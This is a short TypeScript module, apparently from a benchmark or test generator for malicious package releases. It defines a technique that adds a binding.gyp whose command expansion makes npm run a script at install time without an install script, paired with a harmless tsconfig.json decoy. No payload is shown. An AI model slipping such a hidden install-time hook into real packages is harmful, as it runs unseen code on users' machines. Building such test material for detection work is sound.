import { withFile } from "../release.ts";
import type { Technique } from "../technique.ts";

export const implicitBuild: Technique = {
  id: "implicit-build",
  title: "binding.gyp whose expansion runs a command while npm installs",
  shape:
    "install without an install script: npm runs node-gyp when binding.gyp is there (npm scripts documentation)",
  kind: "javascript",
  least: "high",
  attack: ({ after }) =>
    withFile(
      after,
      "binding.gyp",
      `{ "targets": [{ "target_name": "none", "sources": ["<!(node lib/prepare.js)"], "type": "none" }] }\n`,
    ),
  twinTitle: "settings for TypeScript",
  twin: ({ after }) => withFile(after, "tsconfig.json", `{ "compilerOptions": { "strict": true } }\n`),
};
